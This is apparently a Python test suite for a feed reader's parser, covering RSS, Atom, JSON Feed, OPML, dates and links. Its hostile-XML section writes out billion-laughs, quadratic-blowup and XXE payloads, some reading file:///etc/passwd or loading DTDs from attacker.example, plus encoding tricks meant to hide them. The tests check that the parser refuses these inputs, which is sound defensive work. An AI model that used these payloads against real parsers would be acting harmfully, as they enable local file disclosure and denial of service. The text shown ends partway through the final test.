"""Feed parsing (pure): formats, text, dates, hostile XML, links, OPML; then the real corpus end to end."""

from __future__ import annotations

import ast
import asyncio
import html
import json
import logging
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from werkzeug.wrappers import Request, Response

from chipwatch.config import Settings
from chipwatch.sources.dates import PERIODS
from chipwatch.sources.errors import FeedParseError, UnsafeXMLError
from chipwatch.sources.fetch import FetchResult, fetch_feed, make_client
from chipwatch.sources.links import normalise_link
from chipwatch.sources.opml import build_opml, parse_opml
from chipwatch.sources.parse import ParsedFeed, parse_feed
from chipwatch.sources.plaintext import html_to_text
from chipwatch.sources.store import content_hash
from tests.fixtures.corpus import corpus_dir, requires_corpus

NOW = datetime(2026, 9, 1, 12, 0, tzinfo=UTC)
URL = "https://feeds.example.com/blog/feed.xml"


@pytest.fixture
def httpserver(httpserver_ipv4):
    """pytest-httpserver bound to 127.0.0.1 (the plugin's default host is "localhost")."""
    return httpserver_ipv4


def parse(body: str | bytes, headers: dict[str, str] | None = None, url: str = URL) -> ParsedFeed:
    data = body.encode() if isinstance(body, str) else body
    return parse_feed(data, url=url, headers=headers or {"Content-Type": "application/xml"}, now=NOW)


# --------------------------------------------------------------------------------------------------
# Formats


RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel>
  <title>Chip &amp; Systems</title>
  <link>https://example.com/</link>
  <item>
    <title>Jalape&#241;o hits &lt;b&gt;104.3x&lt;/b&gt; &amp;amp; more</title>
    <link>/posts/jalapeno?utm_source=rss</link>
    <guid isPermaLink="false">post-1</guid>
    <description>&lt;p&gt;First&amp;nbsp;para.&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;p&gt;Second.&lt;/p&gt;</description>
    <content:encoded><![CDATA[<h2>Results</h2>
      <p>GB300 &amp; Jalape&ntilde;o <em>compared</em>.</p>]]></content:encoded>
    <dc:creator>Ana Analyst</dc:creator>
    <pubDate>Tue, 25 Aug 2026 14:30:00 -0700</pubDate>
  </item>
  <item>
    <title>No date here</title>
    <link>https://example.com/posts/2</link>
  </item>
</channel>
</rss>"""


def test_rss_entry_fields_are_plain_text_absolute_and_utc():
    feed = parse(RSS)
    assert feed.kind == "rss"
    assert feed.title == "Chip & Systems"
    assert feed.link == "https://example.com/"
    assert not feed.bozo
    first, second = feed.entries
    # RSS titles may carry escaped HTML: it is removed, and entities are decoded once.
    assert first.title == "Jalapeño hits 104.3x & more"
    assert first.link == "https://feeds.example.com/posts/jalapeno?utm_source=rss"
    assert first.guid == "post-1"
    assert first.summary == "First para.\nSecond."
    assert "alert" not in first.summary
    assert first.content == "Results\nGB300 & Jalapeño compared."
    assert first.author == "Ana Analyst"
    assert first.published_at == datetime(2026, 8, 25, 21, 30, tzinfo=UTC)
    assert first.published_at.tzinfo is UTC
    assert first.published_is_estimated is False
    assert second.published_at is None
    assert second.published_is_estimated is True
    assert second.guid is None
    assert second.content == second.summary == ""


ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://news.example.org/base/">
  <title type="html">Inference &lt;i&gt;Watch&lt;/i&gt;</title>
  <link rel="alternate" href="index.html"/>
  <author><name>Desk</name></author>
  <entry>
    <title type="text">Less &lt;than&gt; tags stay literal</title>
    <id>tag:news.example.org,2026:1</id>
    <link rel="alternate" href="articles/1"/>
    <updated>2026-08-30T10:00:00+02:00</updated>
    <published>2026-08-29T09:00:00Z</published>
    <summary type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>MLPerf <b>v5.1</b></p></div></summary>
    <content type="html">&lt;ul&gt;&lt;li&gt;one&lt;/li&gt;&lt;li&gt;two&lt;/li&gt;&lt;/ul&gt;</content>
  </entry>
</feed>"""


def test_atom_uses_xml_base_types_and_published_before_updated():
    feed = parse(ATOM)
    assert feed.kind == "atom"
    assert feed.title == "Inference Watch"
    assert feed.link == "https://news.example.org/base/index.html"
    (entry,) = feed.entries
    assert entry.title == "Less <than> tags stay literal"
    assert entry.link == "https://news.example.org/base/articles/1"
    assert entry.guid == "tag:news.example.org,2026:1"
    assert entry.summary == "MLPerf v5.1"
    assert entry.content == "one\ntwo"
    assert entry.author == "Desk"  # inherited from the feed
    assert entry.published_at == datetime(2026, 8, 29, 9, 0, tzinfo=UTC)


def test_rdf_is_detected():
    rdf = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://r.example/"><title>R</title><link>https://r.example/</link></channel>
  <item rdf:about="https://r.example/1"><title>One</title><link>https://r.example/1</link>
    <dc:date>2026-08-01T00:00:00Z</dc:date></item>
</rdf:RDF>"""
    feed = parse(rdf)
    assert feed.kind == "rdf"
    assert [e.title for e in feed.entries] == ["One"]
    assert feed.entries[0].published_at == datetime(2026, 8, 1, tzinfo=UTC)


def test_content_location_header_sets_the_base():
    body = (
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="x/1"/><title>t</title></entry></feed>'
    )
    feed = parse(body, headers={"Content-Type": "application/atom+xml", "Content-Location": "/other/"})
    assert feed.entries[0].link == "https://feeds.example.com/other/x/1"
    # A non-http Content-Location is ignored in favour of the fetched URL.
    feed = parse(body, headers={"Content-Location": "javascript:alert(1)"})
    assert feed.entries[0].link == "https://feeds.example.com/blog/x/1"


def test_unsafe_entry_links_are_dropped():
    body = """<rss version="2.0"><channel><title>t</title>
      <item><title>a</title><link>javascript:alert(1)</link></item>
      <item><title>b</title><link>data:text/html,hi</link></item></channel></rss>"""
    assert [e.link for e in parse(body).entries] == [None, None]


def test_charset_from_the_http_header_is_used():
    body = '<rss version="2.0"><channel><title>Caf\xe9 \x93quoted\x94</title></channel></rss>'.encode(
        "latin-1"
    )
    feed = parse(body, headers={"Content-Type": "application/rss+xml; charset=windows-1252"})
    assert feed.title == "Café “quoted”"


JSON_FEED_11 = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "JSON chips",
    "home_page_url": "https://j.example/",
    "feed_url": "https://j.example/feed.json",
    "authors": [{"name": "Feed Author"}],
    "items": [
        {
            "id": 42,
            "url": "/posts/42",
            "title": "Rubin &amp; <b>friends</b>",
            "content_html": "<p>Hello <script>x()</script>world</p>",
            "summary": "Short",
            "date_published": "2026-08-31T23:00:00-01:00",
            "authors": [{"name": "Writer"}],
        },
        {"id": "b", "external_url": "https://elsewhere.example/b", "content_text": "plain body"},
        {"id": "c", "content_text": "too old", "date_published": "1970-01-01T00:00:00Z"},
        "not an object",
    ],
}


def test_json_feed_1_1():
    feed = parse(json.dumps(JSON_FEED_11), headers={"Content-Type": "application/feed+json"})
    assert feed.kind == "json"
    assert feed.title == "JSON chips"
    assert feed.link == "https://j.example/"
    first, second, third = feed.entries
    assert first.guid == "42"
    assert first.link == "https://j.example/posts/42"
    assert first.title == "Rubin & friends"
    assert first.content == "Hello world"
    assert first.summary == "Short"
    assert first.author == "Writer"
    assert first.published_at == datetime(2026, 9, 1, 0, 0, tzinfo=UTC)
    assert second.link == "https://elsewhere.example/b"
    assert second.content == "plain body"
    assert second.author == "Feed Author"
    assert second.published_is_estimated is True
    assert third.published_at is None and third.published_is_estimated is True
    assert any("not an object" in w for w in feed.warnings)
    assert any("implausible" in w for w in feed.warnings)


@requires_corpus
def test_json_feed_1_0_from_the_corpus():
    body = (corpus_dir() / "feedparser-tests" / "json" / "example.json").read_bytes()
    feed = parse(body, headers={"Content-Type": "application/json"})
    assert feed.kind == "json"
    assert feed.title == "My Example Feed"
    assert len(feed.entries) == 2
    assert feed.entries[0].title == "post 2"
    assert feed.entries[0].link == "https://example.org/second-item"
    assert feed.entries[0].author == "me"  # JSON Feed 1.0 feed-level author
    assert feed.entries[1].content == "Hello, world!"
    assert feed.entries[1].author == "you"


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (b"", "empty document"),
        (b"  \r\n\t ", "empty document"),
        (b"<!DOCTYPE html><html><head><title>Blog</title></head><body><p>hi</p></body></html>", "HTML page"),
        (b"<html><body><h1>404</h1></body></html>", "HTML page"),
        (b"just some text", "not a feed"),
        (b"<note><to>x</to></note>", "root element <note>"),
        (b'{"hello": "world"}', "not a JSON Feed"),
        (b"[1, 2, 3]", "not an object"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": ', "invalid JSON"),
        (b"/etc/passwd", "not a feed"),
        # Wrong or broken encodings that leave nothing readable.
        ('<rss version="2.0"><channel><title>x</title></channel></rss>'.encode("utf-32")[:-3], "not a feed"),
        (b"\xff\xfe" + b"\x00\xd8" * 50, "not a feed"),
        (b'<?xml version="1.0" encoding="bogus"?>\xff\xfe\xfa garbage \x00\x01', "not a feed"),
    ],
)
def test_things_that_are_not_feeds_raise_feed_parse_error(body, message):
    with pytest.raises(FeedParseError, match=re.escape(message)):
        parse(body)


def test_a_file_name_as_body_is_never_read_from_disk(tmp_path):
    secret = tmp_path / "secret.xml"
    secret.write_text('<rss version="2.0"><channel><title>SECRET</title></channel></rss>')
    with pytest.raises(FeedParseError):
        parse(str(secret).encode())


def test_empty_but_valid_feed_has_no_entries():
    feed = parse('<feed xmlns="http://www.w3.org/2005/Atom"><title>Quiet</title></feed>')
    assert feed.kind == "atom"
    assert feed.entries == []
    assert feed.title == "Quiet"


def test_truncated_feed_keeps_recovered_entries_and_is_bozo():
    body = '<rss version="2.0"><channel><title>T</title><item><title>kept</title></item><item><title>cut'
    feed = parse(body)
    assert feed.bozo
    assert feed.entries[0].title == "kept"
    assert feed.warnings


# --------------------------------------------------------------------------------------------------
# Dates


def dated(pub: str) -> ParsedFeed:
    return parse(
        f'<rss version="2.0"><channel><item><title>x</title><pubDate>{pub}</pubDate></item></channel></rss>'
    )


@pytest.mark.parametrize(
    "pub",
    ["Thu, 01 Jan 1970 00:00:00 GMT", "Sat, 31 Dec 1994 23:59:59 GMT", "Fri, 01 Jan 2100 00:00:00 GMT"],
)
def test_implausible_dates_become_estimated(pub):
    feed = dated(pub)
    assert feed.entries[0].published_at is None
    assert feed.entries[0].published_is_estimated is True
    assert "1 entries had implausible dates" in " ".join(feed.warnings)


def test_dates_up_to_two_days_ahead_are_kept():
    ahead = NOW + timedelta(days=1, hours=23)
    feed = dated(ahead.strftime("%a, %d %b %Y %H:%M:%S GMT"))
    assert feed.entries[0].published_at == ahead
    too_far = NOW + timedelta(days=2, minutes=1)
    assert dated(too_far.strftime("%a, %d %b %Y %H:%M:%S GMT")).entries[0].published_at is None


def test_unparseable_date_is_estimated():
    entry = dated("sometime last week").entries[0]
    assert entry.published_at is None and entry.published_is_estimated


def test_twelve_hour_and_iana_zone_dates_in_feeds():
    assert dated("Sun, 17 Dec 2017 1:55 PM EST").entries[0].published_at == datetime(
        2017, 12, 17, 18, 55, tzinfo=UTC
    )
    assert dated("Fri, 31 Mar 2023 20:19:00 America/Los_Angeles").entries[0].published_at == datetime(
        2023, 4, 1, 3, 19, tzinfo=UTC
    )


def _vector_feed(dates: list[str], tz: str | None = None) -> ParsedFeed:
    """One RSS document with an item per date string, parsed as the service parses a fetched feed."""
    items = "".join(
        f"<item><title>{i}</title><pubDate>{html.escape(d)}</pubDate></item>" for i, d in enumerate(dates)
    )
    return parse_feed(
        f'<rss version="2.0"><channel><title>v</title>{items}</channel></rss>'.encode(),
        url="https://example.com/feed",
        headers={"Content-Type": "application/rss+xml"},
        now=NOW,
        default_tz=tz,
    )


@requires_corpus
def test_feedparser_date_vectors_through_the_parser():
    """Every vector of feedparser's date tests with an expected value is that instant in a parsed feed,
    except three two-digit-year forms read as unknown on purpose (tests/text/test_dates.py says why) and
    one before 1995 (implausible). A year or a month alone is kept with its precision."""
    data = json.loads((corpus_dir() / "feedparser-tests" / "date_vectors.json").read_text())
    vectors = [v for v in data["vectors"] if v["expected_value"] and v["input_value"].strip()]
    feed = _vector_feed([v["input_value"] for v in vectors])
    unknown = {}
    for vector, entry in zip(vectors, feed.entries, strict=True):
        expected = datetime(*vector["expected_value"][:6], tzinfo=UTC)
        if entry.published_at is None:
            unknown[vector["input_value"]] = entry.published_reason.split(":")[0]
        else:
            assert entry.published_at.replace(microsecond=0) == expected, (vector, entry.published_reason)
            assert entry.published_is_estimated is False
    periods = {e.title: e.published_precision for e in feed.entries if e.published_precision in PERIODS}
    assert sorted(vectors[int(i)]["input_value"] for i in periods) == ["-03-12", "-0312", "2003", "2003-12"]
    assert unknown == {
        "031231": "unreadable",
        "03335": "unreadable",
        "03-12-31": "ambiguous-order",
        "Thu, 01 Jan 0100 00:00:01 +0100": "implausible",
    }


@requires_corpus
def test_miniflux_date_strings_through_the_parser():
    """Miniflux's vectors: the exact ones at their instant, every real-world string read, the must-fail
    ones unknown with a reason."""
    data = json.loads((corpus_dir() / "miniflux-testdata" / "date_strings.json").read_text())
    exact = data["exact_vectors"]
    feed = _vector_feed([v["input"] for v in exact])
    assert [int(e.published_at.timestamp()) for e in feed.entries] == [v["expected_unix"] for v in exact]
    real = data["must_parse_real_world_strings"]
    feed = _vector_feed([s.strip() for s in real])
    entries = zip(real, feed.entries, strict=True)
    unread = {s: e.published_reason for s, e in entries if e.published_at is None}
    assert unread == {}
    assert [e.published_precision for s, e in zip(real, feed.entries, strict=True) if s == "Nov. 2020"] == [
        "month"
    ]
    failed = _vector_feed(data["must_fail"])
    assert all(e.published_at is None and e.published_reason for e in failed.entries)


# --------------------------------------------------------------------------------------------------
# Hostile XML

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title></item></channel></rss>"""


def test_billion_laughs_is_refused():
    with pytest.raises(UnsafeXMLError, match="nested entity expansion"):
        parse(BILLION_LAUGHS)


def test_billion_laughs_in_utf16_is_refused():
    with pytest.raises(UnsafeXMLError):
        parse(BILLION_LAUGHS.replace('version="1.0"?>', 'version="1.0" encoding="utf-16"?>').encode("utf-16"))


def test_xxe_external_entity_is_refused():
    with pytest.raises(UnsafeXMLError, match="external entity &xxe;") as info:
        parse(XXE)
    assert "root:" not in str(info.value)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>',
        '<!DOCTYPE rss PUBLIC "-//x//y" "http://x" [<!ENTITY e PUBLIC "-//x" "http://attacker.example/e">]>',
        "<!DOCTYPE rss [<!ENTITY a '<b>markup</b>'>]>",
    ],
)
def test_other_dangerous_declarations_are_refused(doctype):
    with pytest.raises(UnsafeXMLError):
        parse(f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>t</title></channel></rss>')


def test_doctype_hidden_after_a_comment_is_still_checked():
    body = "<!-- <rss> inside a comment -->\n" + XXE.split("\n", 1)[1]
    with pytest.raises(UnsafeXMLError):
        parse(body)


def test_quadratic_blowup_is_refused():
    big = "A" * 10_000
    refs = "&big;" * 200
    body = f'<!DOCTYPE rss [<!ENTITY big "{big}">]><rss version="2.0"><channel><title>{refs}</title>'
    body += "</channel></rss>"
    with pytest.raises(UnsafeXMLError, match="would expand to 2000000 characters"):
        parse(body)


def test_declarations_hidden_behind_a_huge_comment_are_found():
    padding = "<!--" + "x" * 1_100_000 + "-->"
    with pytest.raises(UnsafeXMLError, match="external entity"):
        parse(padding + XXE.split("\n", 1)[1])


def test_declarations_in_utf7_are_found():
    # In UTF-7 "<!" can be written "+ADwAIQ-", invisible to a byte scan; feedparser would decode it.
    body = (
        b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE rss +AFsAPAAh-ENTITY xxe SYSTEM '
        b"+ACI-file:///etc/passwd+ACIAPgBdAD4-"
        b'<rss version="2.0"><channel><title>&xxe;</title></channel></rss>'
    )
    with pytest.raises(UnsafeXMLError, match="external entity &xxe;"):
        parse(body)


def test_declarations_in_utf16_without_bom_are_found():
    body = (" " + XXE.replace('version="1.0"?>', 'version="1.0" encoding="utf-16le"?>')).encode("utf-16-le")
    with pytest.raises(UnsafeXMLError):
        parse(body, headers={"Content-Type": "application/xml; charset=utf-16le"})


def test_entity_text_inside_cdata_or_comments_is_not_a_declaration():
    body = """<rss version="2.0"><channel><title>Security</title><!-- <!ENTITY x SYSTEM "y"> -->
<item><title>XXE explained</title><description><![CDATA[Attackers write
<!ENTITY xxe SYSTEM "file:///etc/passwd"> in a DOCTYPE.]]></description></item></channel></rss>"""
    feed = parse(body)
    assert feed.entries[0].title == "XXE explained"
    assert feed.entries[0].summary.startswith("Attackers write")


def test_big_documents_without_declarations_pass_quickly():
    text = "word " * 250_000
    item = f"<item><title>big</title><description>{text}</description></item>"
    feed = parse(f'<rss version="2.0"><channel>{item}</channel></rss>')
    assert len(feed.entries[0].summary) == len(text) - 1


def test_small_plain_entities_are_allowed_and_expanded():
    body = """<!DOCTYPE rss [
  <!ENTITY co "Cerebras Systems">
  <!ENTITY dash "&#8212;">
]>
<rss version="2.0"><channel><title>&co; &dash; news</title>
<item><title>&co; raises</title><guid>g1</guid></item></channel></rss>"""
    feed = parse(body)
    assert feed.title == "Cerebras Systems — news"
    assert feed.entries[0].title == "Cerebras Systems raises"


def test_doctype_without_internal_subset_is_fine():
    body = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
        '<rss version="0.91"><channel><title>N</title><item><title>i</title></item></channel></rss>'
    )
    assert parse(body).entries[0].title == "i"


# --------------------------------------------------------------------------------------------------
# Text, links, hashes


def test_html_to_text():
    html = "<div><h1>Title</h1><p>A&amp;B&nbsp;&lt;C&gt;</p><style>p{}</style>"
    html += "<script>evil()</script>x<br>y</div>"
    assert html_to_text(html) == "Title\nA&B <C>\nx\ny"
    assert html_to_text("  plain   text \n\n\n\n more ") == "plain text\nmore"
    assert html_to_text("<p>unclosed <b>bold") == "unclosed bold"


@pytest.mark.parametrize(
    ("raw", "normal"),
    [
        (
            "HTTPS://Example.COM:443/a/b/?utm_source=x&utm_medium=rss&id=3#frag",
            "https://example.com/a/b?id=3",
        ),
        ("http://example.com:80", "http://example.com/"),
        ("http://example.com:8080/", "http://example.com:8080/"),
        ("https://example.com/p?b=2&a=1&fbclid=zz&gclid=yy", "https://example.com/p?a=1&b=2"),
        ("https://example.com/?", "https://example.com/"),
        ("https://[2001:DB8::1]:443/x/", "https://[2001:db8::1]/x"),
        ("  https://example.com/Case/Path  ", "https://example.com/Case/Path"),
        ("not a url", "not a url"),
    ],
)
def test_normalise_link(raw, normal):
    assert normalise_link(raw) == normal


def test_normalise_link_makes_variants_equal():
    a = normalise_link("https://blogs.nvidia.com/blog/mbl-human-memory-ai-vr-rtx/?utm_campaign=feed")
    b = normalise_link("https://BLOGS.nvidia.com:443/blog/mbl-human-memory-ai-vr-rtx#comments")
    assert a == b == "https://blogs.nvidia.com/blog/mbl-human-memory-ai-vr-rtx"


def test_content_hash():
    h = content_hash("Groq  raises $300M", "Body\ntext")
    assert h == content_hash("groq raises $300M", "  Body text ")
    assert h != content_hash("Groq raises $300M", "Body text!")
    assert len(h) == 64 and int(h, 16) >= 0
    # Title and body are separated, so moving words between them changes the hash.
    assert content_hash("a b", "c") != content_hash("a", "b c")


# --------------------------------------------------------------------------------------------------
# OPML


@requires_corpus
def test_parse_opml_from_the_corpus():
    body = (corpus_dir() / "feeds-ai-chips" / "ati-ai-rss-feeds__feeds.opml").read_bytes()
    feeds = parse_opml(body)
    assert len(feeds) == 12
    assert feeds[0] == {
        "url": "https://raw.githubusercontent.com/alan-turing-institute/ai-rss-feeds/refs/heads/main/feeds/allenai-news.xml",
        "name": "Ai2 News (Allen Institute for AI)",
    }
    assert all(f["url"].startswith("https://") for f in feeds)


def test_opml_round_trip_with_nesting_and_duplicates():
    sources = [
        {"url": "https://a.example/feed", "name": "A & <co>", "site_url": "https://a.example/"},
        {"url": "https://b.example/rss", "name": None},
    ]
    out = build_opml(sources)
    assert out.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    assert parse_opml(out) == [
        {"url": "https://a.example/feed", "name": "A & <co>"},
        {"url": "https://b.example/rss", "name": "https://b.example/rss"},
    ]
    nested = b"""<opml version="2.0"><body><outline text="Chips">
        <outline text="One" xmlUrl="https://one.example/f"/>
        <outline text="Dup" xmlUrl="https://one.example/f"/>
        <outline text="Local" xmlUrl="file:///etc/passwd"/></outline></body></opml>"""
    # Another scheme is kept for the import to refuse by name.
    assert parse_opml(nested) == [{"url": "https://one.example/f", "name": "One"},
                                  {"url": "file:///etc/passwd", "name": "Local"}]


def test_opml_objects_with_attributes_are_accepted():
    class Src:
        url = "https://c.example/atom"
        name = "C"

    assert parse_opml(build_opml([Src()])) == [{"url": "https://c.example/atom", "name": "C"}]


@pytest.mark.parametrize(
    ("body", "error"),
    [
        (XXE.replace("<rss", "<opml").encode(), UnsafeXMLError),
        (BILLION_LAUGHS.encode(), UnsafeXMLError),
        (b"<rss/>", FeedParseError),
        (b"<opml><body>", FeedParseError),
        (b"", FeedParseError),
    ],
)
def test_bad_opml_is_refused(body, error):
    with pytest.raises(error):
        parse_opml(body)


# --------------------------------------------------------------------------------------------------
# Real AI-chip feeds (parse only; the HTTP path is covered below)


@requires_corpus
def test_nvidia_blog_feed_values():
    body = (
        corpus_dir() / "feeds-ai-chips" / "depodefi-rss-miner__nvidia-generative-ai-blog.xml"
    ).read_bytes()
    feed = parse(body, url="https://example.test/nvidia.xml")
    assert feed.kind == "rss"
    assert feed.title == "NVIDIA Generative AI News"
    assert feed.link == "https://blogs.nvidia.com/blog/category/generative-ai/"
    assert len(feed.entries) == 14
    first = feed.entries[0]
    assert first.title == "Marine Biological Laboratory Explores Human Memory With AI and Virtual Reality"
    assert first.link == "https://blogs.nvidia.com/blog/mbl-human-memory-ai-vr-rtx/"
    assert first.published_at == datetime(2025, 12, 22, 16, 0, 10, tzinfo=UTC)
    assert first.author == "NVIDIA"
    assert first.summary.startswith("The works of Plato state that when humans have an experience")
    assert "NVIDIA RTX GPUs" in first.content
    assert all(e.published_at and not e.published_is_estimated for e in feed.entries)


@requires_corpus
def test_amd_and_ai_news_feed_values():
    root = corpus_dir() / "feeds-ai-chips"
    amd = parse((root / "depodefi-rss-miner__amd-press-releases.xml").read_bytes())
    assert len(amd.entries) == 10
    assert (
        amd.entries[0].title
        == "AMD and HPE Expand Collaboration to Advance Open Rack-Scale AI Infrastructure"
    )
    assert amd.entries[0].published_at == datetime(2025, 12, 2, 9, 0, tzinfo=UTC)
    assert "Helios" in amd.entries[0].content
    tldr = parse((root / "ati-ai-rss-feeds__tldr-ai.xml").read_bytes())
    assert len(tldr.entries) == 20
    assert (
        tldr.entries[0].title == "OpenAI buys Ona 🤝, Anthropic backtracks 🔁, Xiaomi’s MiMo code 👨\u200d💻"
    )
    assert tldr.entries[0].guid == tldr.entries[0].link == "https://tldr.tech/ai/2026-06-12"
    batch = parse((root / "ati-ai-rss-feeds__the-batch.xml").read_bytes())
    assert len(batch.entries) == 16
    assert batch.entries[0].link == "https://www.deeplearning.ai/the-batch/issue-345"


# --------------------------------------------------------------------------------------------------
# The corpus end to end: every feed file served over HTTP, fetched, then parsed


FEEDPARSER_GROUPS = [
    "wellformed/sanitize",
    "wellformed/atom10",
    "wellformed/rss",
    "wellformed/atom",
    "wellformed/base",
    "wellformed/amp",
    "wellformed/lang",
    "wellformed/itunes",
    "wellformed/(other)",
    "illformed",
    "encoding",
    "entities",
    "json",
    "docs-examples",
]
BIG_WELLFORMED = {g.split("/")[1] for g in FEEDPARSER_GROUPS if g.startswith("wellformed/") and "(" not in g}
SIMPLE_EXPECT = re.compile(r"^(?:not bozo and )?(entries\[0\]|feed)(?:\['(\w+)'\]|\.(\w+)) == (.+?)\s*$")
ENTRY_FIELDS = {
    "title": "title",
    "link": "link",
    "id": "guid",
    "guid": "guid",
    "summary": "summary",
    "description": "summary",
    "author": "author",
}
FEED_FIELDS = {"title": "title", "link": "link"}
# Where our parse legitimately differs from the expectation in feedparser's own (newer) test suite.
KNOWN_DIFFERENCES = {
    "wellformed/atom10/entry_id_no_normalization_4.xml": "feedparser 6.0 lower-cases the scheme of atom:id",
    "wellformed/atom10/entry_id_with_attributes.xml": "feedparser 6.0 resolves a relative atom:id",
}
# Files that we refuse on purpose although feedparser's suite expects "not bozo".
REFUSED_ON_PURPOSE = {
    "wellformed/rdf/doctype_contains_entity_decl.xml": "declares an external parameter entity",
}


def feedparser_files(group: str) -> list[Path]:
    root = corpus_dir() / "feedparser-tests"
    if group == "wellformed/(other)":
        return sorted(
            p
            for p in (root / "wellformed").rglob("*")
            if p.is_file() and p.relative_to(root / "wellformed").parts[0] not in BIG_WELLFORMED
        )
    return sorted(p for p in (root / group).rglob("*") if p.is_file())


def declared_headers(body: bytes) -> dict[str, str]:
    """The simulated response headers a feedparser test file declares in its header comment."""
    head = body[:2048].decode("latin-1")
    return {
        m.group(1).strip(): m.group(2).strip()
        for m in re.finditer(r"^Header:\s*([\w-]+):[ \t]*(.*)$", head, re.M)
    }


def serve_files(httpserver, files: dict[str, tuple[bytes, dict[str, str]]]) -> None:
    """Serve ``files`` (path -> body, headers) from the test server with one handler."""

    def handler(request: Request) -> Response:
        body, headers = files[request.path]
        headers = dict(headers)
        content_type = headers.pop("Content-type", None) or headers.pop("Content-Type", None)
        if content_type is None:
            content_type = "application/json" if request.path.endswith(".json") else "application/xml"
        response = Response(body, status=200, headers=headers)
        response.headers["Content-Type"] = content_type  # verbatim, even when malformed
        return response

    httpserver.expect_request(re.compile(r"^/.*")).respond_with_handler(handler)


@pytest.fixture
def quiet_server_log() -> Iterator[None]:
    """Keep the test server from logging one INFO record per request (thousands in these tests)."""
    logger = logging.getLogger("werkzeug")
    previous = logger.level
    logger.setLevel(logging.WARNING)
    yield
    logger.setLevel(previous)


async def fetch_all(base_url: str, paths: list[str]) -> dict[str, FetchResult]:
    settings = Settings(allow_private_networks=True, fetch_timeout_s=20)
    async with make_client(settings) as client:
        semaphore = asyncio.Semaphore(4)

        async def one(path: str) -> tuple[str, FetchResult]:
            async with semaphore:
                return path, await fetch_feed(client, base_url + path, settings=settings)

        return dict(await asyncio.gather(*(one(p) for p in paths)))


def fetch_and_parse_all(base_url: str, paths: list[str]) -> dict[str, object]:
    """path -> ParsedFeed | FeedParseError | other exception | failed FetchResult.

    All fetches run first, then all parses: parsing holds the GIL, which would otherwise stall the
    in-process test server between requests.
    """
    fetched = asyncio.run(fetch_all(base_url, paths))
    outcomes: dict[str, object] = {}
    for path, result in fetched.items():
        if result.status != "ok":
            outcomes[path] = result
            continue
        try:
            outcomes[path] = parse_feed(result.body, url=result.final_url, headers=result.headers, now=NOW)
        except Exception as exc:  # recorded; the test asserts on the type
            outcomes[path] = exc
    return outcomes


def plain(text: str) -> str:
    return " ".join(html_to_text(text).split())


def simple_expectation(body: bytes) -> tuple[str, str, str] | None:
    """``(where, field, expected)`` when the file's ``Expect:`` line is a plain string comparison of a
    field we carry (``entries[0]['title'] == '...'``), else None."""
    match = re.search(rb"Expect:\s*(.*)", body)
    if not match:
        return None
    simple = SIMPLE_EXPECT.match(match.group(1).decode("utf-8").strip())
    if not simple:
        return None
    where, key1, key2, literal = simple.groups()
    key = key1 or key2
    if key not in (FEED_FIELDS if where == "feed" else ENTRY_FIELDS):
        return None
    try:
        expected = ast.literal_eval(literal)
    except (ValueError, SyntaxError):
        return None
    return (where, key, expected) if isinstance(expected, str) else None


def check_expectation(relative: str, body: bytes, outcome: object, base: str) -> str | None:
    """Compare our value with a simple ``Expect:`` line; a mismatch description, or None."""
    simple = simple_expectation(body)
    if simple is None or relative in KNOWN_DIFFERENCES:
        return None
    where, key, expected = simple
    fields = FEED_FIELDS if where == "feed" else ENTRY_FIELDS
    if not isinstance(outcome, ParsedFeed):
        return f"{relative}: expected {key} {expected!r}, got {outcome!r}"
    expected = expected.replace("http://127.0.0.1:8097/", base)
    target = outcome if where == "feed" else (outcome.entries[0] if outcome.entries else None)
    got = getattr(target, fields[key], None)
    # Our text fields are the plain-text projection of feedparser's (which may hold HTML).
    accepted = {expected}
    if key in ("title", "author"):
        accepted.add(plain(expected))
    elif key in ("summary", "description"):
        accepted.add(html_to_text(expected))
    if got not in accepted:
        return f"{relative}: {key} expected {expected!r}, got {got!r}"
    return None


@requires_corpus
@pytest.mark.parametrize("group", FEEDPARSER_GROUPS)
def test_feedparser_suite_over_http(group, httpserver, quiet_server_log):
    root = corpus_dir() / "feedparser-tests"
    files = feedparser_files(group)
    assert files, f"no files in {group}"
    served = {}
    for path in files:
        relative = path.relative_to(root).as_posix()
        url_path = (
            f"/docs/examples/{path.name}" if relative.startswith("docs-examples/") else f"/tests/{relative}"
        )
        body = path.read_bytes()
        served[url_path] = (body, declared_headers(body))
    serve_files(httpserver, served)
